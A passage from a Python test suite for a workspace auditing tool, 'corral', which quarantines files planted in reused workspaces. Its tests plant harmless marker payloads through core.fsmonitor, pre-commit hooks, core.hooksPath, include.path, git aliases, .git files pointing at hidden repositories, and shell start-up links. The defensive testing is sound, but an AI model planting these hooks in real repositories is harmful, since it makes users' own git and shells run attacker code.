            out[mode + "-did"] = sorted((os.path.relpath(a.path, top), a.did) for a in actions)
        print(json.dumps(out))
    """)
    assert r["identities-before"] == ["linked", "swapped"], r  # the control
    assert r["identities-after"] == [], r
    assert r["identities-hgrc"] == "[ui]\nusername = me\n", r
    assert r["identities-tasks"] is None, r  # no copy of a folder's files: quarantined
    assert [".vscode/tasks.json", "quarantined"] in r["identities-did"], r
    assert ["linked/.hg", "quarantined"] in r["identities-did"], r
    # Control: without the identities the swapped-in hgrc and tasks pass for the launch's.
    assert r["none-after"] == ["swapped"] and r["none-tasks"] == "evil\n", r


def test_what_a_later_run_carries_out_of_a_git_folder_is_new(who: Identity) -> None:
    """Review 26: the walks look at no names inside a ``.git`` folder (but its
    ``modules/`` and ``worktrees/``), so an earlier run could leave a ``.vscode`` and a
    ``.git`` file pointing at a repository with a ``core.fsmonitor`` there, and a later
    run move them out: their change times were the earlier run's, and both stayed; host
    ``git status`` ran the fsmonitor.  A reused workspace's census has seen the whole
    tree, so what it did not see is new.  What it saw, moved with a folder above it
    (``mv app web``), is the user's, and stays; a second name of the user's hgrc is not
    (and the link changed the first, which gets its launch copy back).
    Controls: before the audit host git runs the fsmonitor; judged by time alone (a census
    that is not whole) both plants stay."""
    r = as_identity(who, f"""
        import shutil
        from corral.record import replace
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws")
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        mark = os.path.join(base, "FSMONITOR-RAN")
        def at(rel):
            return os.path.join(top, rel)
        def host_git_status():
            subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=at("app2"),
                           capture_output=True)
            ran = os.path.exists(mark)
            if ran:
                os.unlink(mark)
            return ran
        out = {{}}
        for mode in ("whole", "by-time"):
            shutil.rmtree(top, ignore_errors=True); os.mkdir(top)
            # The user's own: an hg checkout and a .vscode in app/.
            subprocess.run(["hg", "init", at("app")], check=True, capture_output=True)
            with open(at("app/.hg/hgrc"), "w") as f:
                f.write("[ui]\\nusername = me\\n")
            subprocess.run(["hg", "init", at("calm")], check=True, capture_output=True)
            with open(at("calm/.hg/hgrc"), "w") as f:
                f.write("[ui]\\nusername = calm\\n")
            os.mkdir(at("app/.vscode"))
            with open(at("app/.vscode/settings.json"), "w") as f:
                f.write("{{}}\\n")
            # An earlier run's, hidden where no walk looks at names.
            git(top, "init", "-q", "--bare", "hide/.git/real")
            git(at("hide/.git/real"), "config", "core.bare", "false")
            git(at("hide/.git/real"), "config", "core.fsmonitor", f"touch {{mark}}; false")
            os.makedirs(at("hide/.git/stash/app2"))
            with open(at("hide/.git/stash/app2/.git"), "w") as f:
                f.write("gitdir: ../hide/.git/real\\n")
            os.makedirs(at("hide/.git/stash/tools/.vscode"))
            with open(at("hide/.git/stash/tools/.vscode/tasks.json"), "w") as f:
                f.write("evil\\n")
            census = audit.census_of_tree(top, None, audit.protected_names())
            if mode == "by-time":
                census = replace(census, whole=False)
            later()
            os.rename(at("hide/.git/stash/app2"), at("app2"))
            os.rename(at("hide/.git/stash/tools"), at("tools"))
            os.rename(at("app"), at("web"))
            subprocess.run(["hg", "init", at("new")], check=True, capture_output=True)
            os.link(at("calm/.hg/hgrc"), at("new/.hg/hgrc"))
            out[mode + "-before"] = host_git_status()
            actions = audit.Auditor(census, lambda: q).run()
            out[mode + "-after"] = host_git_status()
            out[mode + "-did"] = sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions)
            out[mode + "-kept"] = [open(at(p)).read() if os.path.exists(at(p)) else None
                                   for p in ("web/.hg/hgrc", "web/.vscode/settings.json",
                                             "calm/.hg/hgrc")]
            out[mode + "-tasks"] = os.path.exists(at("tools/.vscode/tasks.json"))
        print(json.dumps(out))
    """)
    assert r["whole-before"] is True, r  # the control: host git obeys the plant
    assert r["whole-after"] is False and r["whole-tasks"] is False, r
    # (The repository hidden in the .git folder goes too: the walks go there since
    # review 29.)
    assert r["whole-did"] == [["app2/.git", "quarantined"], ["calm/.hg/hgrc", "quarantined"],
                              ["calm/.hg/hgrc", "restored"],
                              ["hide/.git/real/config", "quarantined"],
                              ["new/.hg/hgrc", "quarantined"],
                              ["tools/.vscode", "quarantined"]], r
    # Moved with web/, the user's stay; calm's, linked (which changes it), is put back.
    assert r["whole-kept"] == ["[ui]\nusername = me\n", "{}\n", "[ui]\nusername = calm\n"], r
    # Control: judged by their change times alone, the carried plants stay.
    # (Host git's own run before the audit, the control above, changed the hidden
    # repository, which the walks now reach: judged by time it goes too.)
    assert ["app2/.git", "quarantined"] not in r["by-time-did"] and r["by-time-tasks"], r


def test_a_git_directory_renamed_to_a_protected_name_is_new(who: Identity) -> None:
    """Review 27: the census keeps the identity of every ``.git`` folder, and the audit took
    any identity it knew as a protected path moved with a folder above it; so a git
    directory an earlier run made, with a ``tasks.json`` and a ``pre-commit`` planted in
    it (no walk looks at names there), renamed in a later run to ``.vscode`` and to the
    ``.githooks`` the user's ``core.hooksPath`` names, passed for the user's own, and host
    ``git commit`` ran the hook.  Only a protected path that kept its name counts as
    moved, and never a git directory.  Control: before the audit host git runs it."""
    r = as_identity(who, f"""
        top = os.path.join({str(who.tmp)!r}, "ws"); os.mkdir(top)
        q = os.path.join({str(who.tmp)!r}, "quarantine"); os.mkdir(q)
        mark = os.path.join({str(who.tmp)!r}, "HOOK-RAN")
        def at(rel):
            return os.path.join(top, rel)
        git(top, "init", "-q", ".")
        git(top, "config", "core.hooksPath", ".githooks")
        for junk in ("junk1", "junk2"):
            git(top, "init", "-q", junk)
        with open(at("junk1/.git/tasks.json"), "w") as f:
            f.write("evil\\n")
        with open(at("junk2/.git/pre-commit"), "w") as f:
            f.write(f"#!/bin/sh\\ntouch {{mark}}\\n")
        os.chmod(at("junk2/.git/pre-commit"), 0o755)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        os.rename(at("junk1/.git"), at(".vscode"))
        os.rename(at("junk2/.git"), at(".githooks"))
        def commit():
            subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@example.invalid",
                            "commit", "-q", "--allow-empty", "-m", "x"], cwd=top,
                           capture_output=True)
            ran = os.path.exists(mark)
            if ran:
                os.unlink(mark)
            return ran
        before = commit()
        actions = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"before": before, "after": commit(),
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions),
                          "left": sorted(os.listdir(top))}}))
    """)
    assert r["before"] is True, r  # the control: host git runs the hook
    assert r["after"] is False, r
    assert [".githooks", "quarantined"] in r["did"] and [".vscode", "quarantined"] in r["did"]
    assert ".vscode" not in r["left"] and ".githooks" not in r["left"], r  # type: ignore


def test_a_folder_the_census_cannot_read_hides_nothing_else(who: Identity) -> None:
    """Review 27: a folder the census could not list (another user's, mode 0700, such as a
    database's volume) ended the census there, which still counted as having seen the
    whole tree: every protected path it had not reached yet was taken for new, and the
    user's own ``.vscode``, ``.envrc`` and hooks went to the quarantine after a run that
    changed nothing.  The census now goes on past it, and judges what is beneath it by
    time.  As root nothing is unreadable and the census sees all; as the user the folder
    is listed as unseen, by identity too: a folder of the payload's put in its place (an
    older ``.vscode`` inside) is not.  Control: the protected paths beyond it are in the
    census."""
    r = as_identity(who, f"""
        top = os.path.join({str(who.tmp)!r}, "ws"); os.mkdir(top)
        q = os.path.join({str(who.tmp)!r}, "quarantine"); os.mkdir(q)
        for d in ("a1", "a2", "a3", "a4"):
            os.makedirs(os.path.join(top, d, ".vscode"))
            with open(os.path.join(top, d, ".envrc"), "w") as f:
                f.write("use flake\\n")
        os.mkdir(os.path.join(top, "locked"))
        os.mkdir(os.path.join(top, "locked", ".vscode"))
        os.chmod(os.path.join(top, "locked"), 0)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        actions = audit.Auditor(census, lambda: q).run()
        # Then a run that puts a folder of its own, an older .vscode in it (an earlier
        # run's, where no census records it), where the one the census could not list
        # was: that one is no longer unseen.
        os.makedirs(os.path.join(top, "hide/.git/x/.vscode"))
        with open(os.path.join(top, "hide/.git/x/.vscode/tasks.json"), "w") as f:
            f.write("evil\\n")
        os.chmod(os.path.join(top, "locked"), 0)  # (the audit gave the owner's rights back)
        later()
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        os.rename(os.path.join(top, "locked"), os.path.join(top, "locked-old"))
        os.rename(os.path.join(top, "hide/.git/x"), os.path.join(top, "locked"))
        again = audit.Auditor(census, lambda: q).run()
        os.chmod(os.path.join(top, "locked-old"), 0o700)
        print(json.dumps({{"blind": [os.path.relpath(b, top) for b in census.blind],
                          "seen": sorted(os.path.relpath(p, top) for p in census.protected),
                          "did": [a.line() for a in actions if a.did != "failed"],
                          "again": sorted((os.path.relpath(a.path, top), a.did)
                                          for a in again if a.did != "failed")}}))
    """)
    # Root's census saw the old one (a swapped folder: what is beneath it goes); the
    # user's could not (a folder it never saw goes whole, and so does the one moved away,
    # which it cannot tell from a plant: it is in the quarantine).
    assert r["again"] == ([["locked/.vscode/tasks.json", "quarantined"]] if who.is_root
                          else [["locked-old/.vscode", "quarantined"],
                                ["locked/.vscode", "quarantined"]]), r
    assert r["did"] == [], r  # nothing of the user's is taken
    beyond = [f"a{i}/{n}" for i in range(1, 5) for n in (".envrc", ".vscode")]
    assert all(p in r["seen"] for p in beyond), r  # type: ignore[operator]
    assert r["blind"] == ([] if who.is_root else ["locked"]), r


def test_a_census_that_fails_beneath_a_git_folder_still_counts_what_it_missed_as_new(
        who: Identity) -> None:
    """Review 28: a step of the census that failed (``HEAD`` looked up beneath a folder
    whose path is 4,093 bytes, inside a submodule's git directory: the name is too long)
    ended it and made it judge unseen paths by time, which let a ``.git`` file an earlier
    run hid inside a ``.git`` folder be carried out and kept; host ``git status`` ran its
    ``core.fsmonitor``.  The failing step now leaves only its own part unrecorded, and
    what the census did not see stays new.  Control: before the audit host git runs it."""
    r = as_identity(who, f"""
        top = os.path.join({str(who.tmp)!r}, "ws"); os.mkdir(top)
        q = os.path.join({str(who.tmp)!r}, "quarantine"); os.mkdir(q)
        mark = os.path.join({str(who.tmp)!r}, "FSMONITOR-RAN")
        def at(rel):
            return os.path.join(top, rel)
        git(top, "init", "-q", "--bare", "hide/.git/real")
        git(at("hide/.git/real"), "config", "core.bare", "false")
        git(at("hide/.git/real"), "config", "core.fsmonitor", f"touch {{mark}}; false")
        os.makedirs(at("hide/.git/stash/app2"))
        with open(at("hide/.git/stash/app2/.git"), "w") as f:
            f.write("gitdir: ../hide/.git/real\\n")
        deep = "hide/.git/modules/foo/.git"
        os.makedirs(at(deep))
        fd = os.open(at(deep), os.O_RDONLY)
        rel = deep
        while 4093 - len(rel) - 1 > 250:  # folders by descriptor: no path too long
            os.mkdir("d" * 250, dir_fd=fd)
            fd = os.open("d" * 250, os.O_RDONLY, dir_fd=fd)
            rel += "/" + "d" * 250
        last = "e" * (4093 - len(rel) - 1)
        os.mkdir(last, dir_fd=fd)
        fd = os.open(last, os.O_RDONLY, dir_fd=fd)
        os.close(os.open("f", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        os.rename(at("hide/.git/stash/app2"), at("app2"))
        def status():
            subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=at("app2"),
                           capture_output=True)
            ran = os.path.exists(mark)
            if ran:
                os.unlink(mark)
            return ran
        before = status()
        actions = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"length": len(rel) + 1 + len(last), "whole": census.whole,
                          "before": before, "after": status(),
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions if a.did != "failed")}}))
    """)
    assert r["length"] == 4093 and r["whole"] is True, r
    assert r["before"] is True, r  # the control: host git obeys the carried .git file
    # (and the repository it names, hidden in the .git folder: the walks go there since
    # review 29)
    assert r["after"] is False and r["did"] == [["app2/.git", "quarantined"],
                                                ["hide/.git/real/config", "quarantined"]], r


def test_what_a_repositorys_config_names_is_audited_by_its_path(who: Identity) -> None:
    """Review 29: a reused workspace's repository whose own config names files in it (its
    ``core.hooksPath`` folder, an ``include.path``) had them rewritten by the payload, a
    hook and a ``core.fsmonitor``; no name there is protected, so the audit said nothing
    and host git obeyed both.  The census reads the configs as agent mode does
    (``repos.config_named``) and the audit compares what they name by its path: changed,
    made where nothing was, or reached through a link made during the run.  Controls:
    before the audit host git runs the hook and the fsmonitor; the user's unchanged named
    files stay."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        def at(rel):
            return os.path.join(top, rel)
        def write(rel, text, mode=0o644):
            os.makedirs(os.path.dirname(at(rel)), exist_ok=True)
            with open(at(rel), "w") as f:
                f.write(text)
            os.chmod(at(rel), mode)
        def host_git(repo):  # status runs an fsmonitor, commit a pre-commit hook
            env = dict(os.environ, GIT_CONFIG_NOSYSTEM="1", GIT_CONFIG_GLOBAL="/dev/null")
            for args in (["status"], ["commit", "-q", "--allow-empty", "-m", "x"]):
                subprocess.run(["git", "-c", "safe.directory=*", "-c", "user.name=t",
                                "-c", "user.email=t@x", *args], cwd=at(repo),
                               capture_output=True, env=env)
            return taken(marks)
        hook = "#!/bin/sh\\nexit 0\\n"
        for repo in ("a", "b", "c"):
            git(top, "init", "-q", repo)
        write("a/scripts/git-hooks/pre-commit", hook, 0o755)
        write("tools/git.cfg", "[user]\\n\\tname = me\\n")
        git(at("a"), "config", "core.hooksPath", "scripts/git-hooks")
        git(at("a"), "config", "include.path", "../../tools/git.cfg")
        git(at("b"), "config", "core.hooksPath", "hooks-to-come")  # not there at launch
        write("c/cfg/hooks/pre-commit", hook, 0o755)
        git(at("c"), "config", "core.hooksPath", "cfg/hooks")
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        write("a/scripts/git-hooks/pre-commit", f"#!/bin/sh\\ntouch {{marks}}/a-hook\\n",
              0o755)
        write("tools/git.cfg", f"[core]\\n\\tfsmonitor = touch {{marks}}/a-fsmonitor; false\\n")
        write("b/hooks-to-come/pre-commit", f"#!/bin/sh\\ntouch {{marks}}/b-hook\\n", 0o755)
        write("elsewhere/hooks/pre-commit", f"#!/bin/sh\\ntouch {{marks}}/c-hook\\n", 0o755)
        os.rename(at("c/cfg"), at("c-cfg-old"))
        os.symlink("../elsewhere", at("c/cfg"))
        before = {{repo: host_git(repo) for repo in ("a", "b", "c")}}
        actions = audit.Auditor(census, lambda: q).run()
        after = {{repo: host_git(repo) for repo in ("a", "b", "c")}}
        print(json.dumps({{"before": before, "after": after,
                          "named": sorted(os.path.relpath(p, top) for p in census.named),
                          "cfg": open(at("tools/git.cfg")).read(),
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions)}}))
    """)
    assert r["before"] == {"a": ["a-fsmonitor", "a-hook"], "b": ["b-hook"],
                           "c": ["c-hook"]}, r  # the control: host git obeys every plant
    assert r["after"] == {"a": [], "b": [], "c": []}, r
    assert r["named"] == ["a/scripts/git-hooks", "b/hooks-to-come", "c/cfg/hooks",
                          "tools/git.cfg"], r
    assert r["cfg"] == "[user]\n\tname = me\n", r  # the launch's content, put back
    assert r["did"] == [["a/scripts/git-hooks/pre-commit", "quarantined"],
                        ["b/hooks-to-come", "quarantined"], ["c/cfg", "quarantined"],
                        ["tools/git.cfg", "quarantined"], ["tools/git.cfg", "restored"]], r


def test_a_repository_hidden_in_a_git_folder_behind_a_link_is_audited(who: Identity
                                                                       ) -> None:
    """Review 29: the walks looked at no names inside a ``.git`` folder, so a payload moved
    the user's repository into one (``hide/.git/stash/proj``), gave its config a
    ``core.fsmonitor`` and left a link in its place; or moved a plain folder there with a
    ``.git`` file naming a repository hidden beside it.  Nothing was carried out, so no
    rule about what was carried out applied; host ``git status`` through the link ran the
    fsmonitor.  The census and the audit now walk into ``.git`` folders like any other
    (their submodules' and worktrees' git directories apart, which have their own walk).
    Control: before the audit host git runs both fsmonitors."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws"); os.mkdir(top)
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        mark = os.path.join(base, "RAN")
        def at(rel):
            return os.path.join(top, rel)
        def host_git_status(where):
            subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=at(where),
                           capture_output=True)
            ran = os.path.exists(mark)
            if ran:
                os.unlink(mark)
            return ran
        git(top, "init", "-q", "proj")
        os.mkdir(at("src"))
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        os.makedirs(at("hide/.git/stash"))
        os.rename(at("proj"), at("hide/.git/stash/proj"))
        git(at("hide/.git/stash/proj"), "config", "core.fsmonitor", f"touch {{mark}}; false")
        os.symlink("hide/.git/stash/proj", at("proj"))
        os.rename(at("src"), at("hide/.git/stash/src"))
        git(top, "init", "-q", "--bare", "hide/.git/stash/real")
        git(at("hide/.git/stash/real"), "config", "core.bare", "false")
        git(at("hide/.git/stash/real"), "config", "core.fsmonitor", f"touch {{mark}}; false")
        with open(at("hide/.git/stash/src/.git"), "w") as f:
            f.write("gitdir: ../real\\n")
        os.symlink("hide/.git/stash/src", at("src"))
        before = [host_git_status(w) for w in ("proj", "src")]
        actions = audit.Auditor(census, lambda: q).run()
        after = [host_git_status(w) for w in ("proj", "src")]
        print(json.dumps({{"before": before, "after": after,
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions)}}))
    """)
    assert r["before"] == [True, True], r  # the control: host git obeys both plants
    assert r["after"] == [False, False], r
    assert r["did"] == [["hide/.git/stash/proj/.git/config", "quarantined"],
                        ["hide/.git/stash/real/config", "quarantined"],
                        ["hide/.git/stash/src/.git", "quarantined"]], r


def test_a_folder_the_audit_cannot_examine_does_not_end_it(who: Identity) -> None:
    """Review 29: a folder whose path is 4,091 bytes can be listed, but its ``HEAD`` cannot
    be looked up (ENAMETOOLONG); the audit stopped there ("could not finish"), and plants
    in the folders it had not walked yet stayed.  Now that folder alone is reported and
    the rest is audited.  Control: before the audit host git runs every plant's
    fsmonitor."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        def at(rel):
            return os.path.join(top, rel)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        git(top, "init", "-q", "--bare", "hide/.git/real")
        git(at("hide/.git/real"), "config", "core.bare", "false")
        git(at("hide/.git/real"), "config", "core.fsmonitor",
            f"touch {{marks}}/$(basename $PWD); false")
        plants = [f"p{{i}}" for i in range(8)]
        for p in plants:
            os.mkdir(at(p))
            with open(at(p + "/.git"), "w") as f:
                f.write("gitdir: ../hide/.git/real\\n")
        for d in ("d1", "d2", "d3"):  # among the plants in the walk's order
            os.mkdir(at(d))
            fd = os.open(at(d), os.O_RDONLY)
            inner = ""
            while len(d) + 1 + len(inner) < 4091 - 201:
                inner = os.path.join(inner, "x" * 200)
                os.mkdir(inner, dir_fd=fd)
            # d/inner/yyy is 4,091 bytes long: listed, but not d/inner/yyy/HEAD
            last = os.path.join(inner, "y" * (4091 - len(d) - 1 - len(inner) - 1))
            os.mkdir(last, dir_fd=fd)
            os.close(os.open(os.path.join(last, "f"), os.O_CREAT | os.O_WRONLY, dir_fd=fd))
            os.close(fd)
        def host_git():
            for p in plants:
                subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=at(p),
                               capture_output=True)
            return taken(marks)
        before = host_git()
        actions = audit.Auditor(census, lambda: q).run()
        after = host_git()
        print(json.dumps({{"before": before, "after": after, "plants": plants,
                          "failed": sorted(a.why for a in actions if a.did == "failed"),
                          "quarantined": sorted(os.path.relpath(a.path, top)
                                                for a in actions if a.did == "quarantined")}}))
    """)
    assert r["before"] == r["plants"], r  # the control: host git obeys every plant
    assert r["after"] == [], r
    assert r["quarantined"] == ["hide/.git/real/config", *[f"{p}/.git" for p in r["plants"]]], r
    assert not any("could not finish" in w for w in r["failed"]), r


def test_a_folder_listed_but_not_entered_is_named_and_a_locked_repository_stays(
        who: Identity) -> None:
    """Review 29: a folder of another user's that can be listed but not entered (mode 0744)
    failed at its first entry's lstat, whose error names the entry alone (``lib``): the
    census took the user's own ``lib`` at the top for the folder it could not list, and
    judged what lay beneath it by time.  The walk now names the folder itself.  And the
    user's repository inside their own locked folder (mode 000), which the census cannot
    list, lost its config and hook after a run that changed nothing (taken for one made
    during the run): a git directory beneath such a folder is judged by its change time.
    Control: as root, nothing is unseen."""
    top = who.tmp / "ws"
    top.mkdir()
    (top / "vendor" / "lib").mkdir(parents=True)  # root's, as another user's would be
    (top / "vendor").chmod(0o744)
    os.chown(top, who.uid, who.gid)
    r = as_identity(who, f"""
        top = {str(top)!r}
        q = os.path.join({str(who.tmp)!r}, "quarantine"); os.mkdir(q)
        os.makedirs(os.path.join(top, "lib/app"))
        os.mkdir(os.path.join(top, "private"))
        git(os.path.join(top, "private"), "init", "-q", "proj")
        with open(os.path.join(top, "private/proj/.git/hooks/pre-commit"), "w") as f:
            f.write("#!/bin/sh\\nexit 0\\n")
        os.chmod(os.path.join(top, "private"), 0)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        actions = audit.Auditor(census, lambda: q).run()
        os.chmod(os.path.join(top, "private"), 0o700)
        kept = [os.path.exists(os.path.join(top, "private/proj/.git", n))
                for n in ("config", "hooks/pre-commit")]
        print(json.dumps({{"blind": sorted(os.path.relpath(b, top) for b in census.blind),
                          "kept": kept,
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions if a.did != "failed")}}))
    """)
    (top / "vendor").chmod(0o755)
    assert r["blind"] == ([] if who.is_root else ["private", "vendor"]), r
    assert r["kept"] == [True, True] and r["did"] == [], r


def test_a_worktrees_common_config_and_the_global_configs_name_what_is_audited(
        who: Identity) -> None:
    """Review 30: git reads a linked worktree's common config (``commondir``) and resolves
    its ``core.hooksPath`` and ``core.fsmonitor = ./x`` against that worktree; the census
    read only the worktree git directory's own (absent) config, and skipped one outside
    the workspace (one worktree per agent); and the user's global config naming a hooks
    folder in a workspace that holds no repository (a dotfiles folder) was never read for
    it.  The payload rewrote each, and host git ran them.  Controls: before the audit
    host git runs every plant."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        glob = os.path.join(base, "global.gitconfig")
        def at(rel):
            return os.path.join(top, rel)
        ok = "#!/bin/sh\\nexit 0\\n"
        # In the workspace, repo with its worktree wt; outside it, far with its worktree
        # ws/farwt; the user's global config names ws/dots/hooks.
        git(top, "init", "-q", "repo")
        git(base, "init", "-q", "far")
        git(base, "init", "-q", "other")  # another of the user's: hooks from the global
        for repo in (at("repo"), os.path.join(base, "far")):
            git(repo, "config", "core.hooksPath", "scripts/git-hooks")
            git(repo, "config", "core.fsmonitor", "./tools/fsmon.sh")
            git(repo, "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-q",
                "--allow-empty", "-m", "init")
        git(at("repo"), "worktree", "add", "-q", at("wt"))
        git(os.path.join(base, "far"), "worktree", "add", "-q", at("farwt"))
        for wt in ("repo", "wt", "farwt"):
            write(at(wt + "/scripts/git-hooks/pre-commit"), ok)
            write(at(wt + "/tools/fsmon.sh"), "#!/bin/sh\\nexit 1\\n")
        write(glob, f"[core]\\n\\thooksPath = {{at('dots/hooks')}}\\n", 0o644)
        write(at("dots/hooks/pre-commit"), ok)
        os.environ["GIT_CONFIG_GLOBAL"] = glob  # read by the census, as by host git
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        for wt in ("wt", "farwt"):
            write(at(wt + "/scripts/git-hooks/pre-commit"),
                  f"#!/bin/sh\\ntouch {{marks}}/{{wt}}-hook\\n")
            write(at(wt + "/tools/fsmon.sh"),
                  f"#!/bin/sh\\ntouch {{marks}}/{{wt}}-fsmon\\nexit 1\\n")
        write(at("dots/hooks/pre-commit"), f"#!/bin/sh\\ntouch {{marks}}/global-hook\\n")
        def host_git():
            for wt in ("wt", "farwt", "repo", "../other"):
                for args in (["status"], ["commit", "-q", "--allow-empty", "-m", "x"]):
                    subprocess.run(["git", "-c", "safe.directory=*", "-c", "user.name=t",
                                    "-c", "user.email=t@x", *args], cwd=at(wt),
                                   capture_output=True)
            return taken(marks)
        before = host_git()
        actions = audit.Auditor(census, lambda: q).run()
        after = host_git()
        print(json.dumps({{"before": before, "after": after,
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions if a.did == "quarantined")}}))
    """)
    assert r["before"] == ["farwt-fsmon", "farwt-hook", "global-hook", "wt-fsmon",
                           "wt-hook"], r  # the control: host git obeys every plant
    assert r["after"] == [], r
    assert r["did"] == [["dots/hooks/pre-commit", "quarantined"],
                        ["farwt/scripts/git-hooks/pre-commit", "quarantined"],
                        ["farwt/tools/fsmon.sh", "quarantined"],
                        ["wt/scripts/git-hooks/pre-commit", "quarantined"],
                        ["wt/tools/fsmon.sh", "quarantined"]], r


def test_started_by_root_for_a_user_the_census_reads_that_users_global_config(
        root: Identity) -> None:
    """Review 30: started by root for a user (``--user``, ``sudo``), the census read
    root's global git config only, so what the user's own ``~/.gitconfig`` names in the
    workspace (their dotfiles' hooks) went unaudited.  It reads both now.  Control: the
    census without the owner does not name it."""
    user = _ensure_user()
    top = root.tmp / "dots"
    (top / "hooks").mkdir(parents=True)
    (top / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    os.chown(top, user.pw_uid, user.pw_gid)
    config = Path(user.pw_dir) / ".gitconfig"
    assert not config.exists()
    config.write_text(f"[core]\n\thooksPath = {top}/hooks\n")
    try:
        out = subprocess.run(
            [sys.executable, "-c", "import json; from corral import audit; "
             "names = audit.protected_names(); "
             f"print(json.dumps([sorted(audit.census_of_tree({str(top)!r}, o, names).named) "
             f"for o in ({(user.pw_uid, user.pw_gid)!r}, None)]))"],
            capture_output=True, text=True, timeout=120, check=True,
            env=dict(os.environ, HOME="/root", GIT_CONFIG_GLOBAL=""))
    finally:
        config.unlink()
    with_owner, without = json.loads(out.stdout)
    assert with_owner == [f"{top}/hooks"], out
    assert without == [], out  # the control: root's own config names nothing there


def test_what_the_home_and_its_configs_reach_in_the_workspace_is_audited(
        who: Identity) -> None:
    """Review 31, three ways the user's own configuration ran what a reused workspace's
    run wrote: a relative ``include.path`` in a global config that is a link into the
    workspace (git resolves it beside the link, corral did beside its target); a script a
    command in the config runs as an argument (``alias.x = !sh <ws>/bin/x.sh``: only a
    command's first word was protected); and a start-up file of the home that links into
    the workspace (``~/.bash_aliases``, which agent mode protects and run mode did not
    look at).  Controls: before the audit host git and sh run every plant."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        home = os.path.join(base, "home"); os.mkdir(home)
        other = os.path.join(base, "other"); git(base, "init", "-q", "other")
        def at(rel):
            return os.path.join(top, rel)
        write(at("gc"), "[include]\\n\\tpath = gc.local\\n", 0o644)
        write(at("gc.local"), "[user]\\n\\tname = me\\n", 0o644)
        os.symlink(at("gc"), os.path.join(base, "gc"))  # the global config, a link
        os.symlink(at("gc.local"), os.path.join(base, "gc.local"))  # beside it: read
        write(at("bin/x.sh"), "exit 0\\n", 0o755)
        with open(at("gc"), "a") as f:
            f.write(f"[alias]\\n\\tx = !sh {{at('bin/x.sh')}} && true\\n")
        write(at("aliases.sh"), "alias ll='ls -l'\\n", 0o644)
        os.symlink(at("aliases.sh"), os.path.join(home, ".bash_aliases"))
        os.environ.update(GIT_CONFIG_GLOBAL=os.path.join(base, "gc"), HOME=home)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        with open(at("gc.local"), "a") as f:
            f.write(f"[core]\\n\\tfsmonitor = touch {{marks}}/include; false\\n")
        write(at("bin/x.sh"), f"touch {{marks}}/argument\\n", 0o755)
        with open(at("aliases.sh"), "a") as f:
            f.write(f"touch {{marks}}/home-link\\n")
        def host():
            for args in (["status"], ["x"]):
                subprocess.run(["git", "-c", "safe.directory=*", *args], cwd=other,
                               capture_output=True)
            subprocess.run(["sh", "-c", ". ~/.bash_aliases"], capture_output=True)
            return taken(marks)
        before = host()
        actions = audit.Auditor(census, lambda: q).run()
        after = host()
        print(json.dumps({{"before": before, "after": after,
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions)}}))
    """)
    assert r["before"] == ["argument", "home-link", "include"], r  # the control
    assert r["after"] == [], r
    assert r["did"] == [["aliases.sh", "quarantined"], ["aliases.sh", "restored"],
                        ["bin/x.sh", "quarantined"], ["bin/x.sh", "restored"],
                        ["gc.local", "quarantined"], ["gc.local", "restored"]], r


def test_started_by_root_the_users_configs_are_read_with_the_users_rights(
        root: Identity) -> None:
    """Review 31: started by root for a user, the census read what the user's global
    config includes with root's rights, and its refusal of a file git could not read
    quoted the first word of a root-only file.  They are read with the user's rights now:
    what the user's git cannot read, it obeys nothing of.  Control: read with root's
    rights (no owner), the same file is quoted."""
    user = _ensure_user()
    secret = root.tmp / "secret"
    secret.write_text("s3cr3t_w0rd\n")  # not a config line: git would refuse it
    secret.chmod(0o600)
    top = root.tmp / "ws"
    top.mkdir()
    os.chown(top, user.pw_uid, user.pw_gid)
    config = Path(user.pw_dir) / ".gitconfig"
    assert not config.exists()
    config.write_text(f"[include]\n\tpath = {secret}\n")
    code = ("import json; from corral import audit; from corral.errors import UsageError\n"
            "out = []\n"
            f"for owner, home in (({(user.pw_uid, user.pw_gid)!r}, None), "
            f"(None, {user.pw_dir!r})):\n"
            "    import os\n"
            "    if home: os.environ['HOME'] = home\n"
            "    try:\n"
            f"        audit.census_of_tree({str(top)!r}, owner, audit.protected_names())\n"
            "        out.append('read')\n"
            "    except UsageError as e:\n"
            "        out.append(str(e))\n"
            "print(json.dumps(out))\n")
    try:
        got = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                             timeout=120, check=True,
                             env=dict(os.environ, HOME="/root", GIT_CONFIG_GLOBAL=""))
    finally:
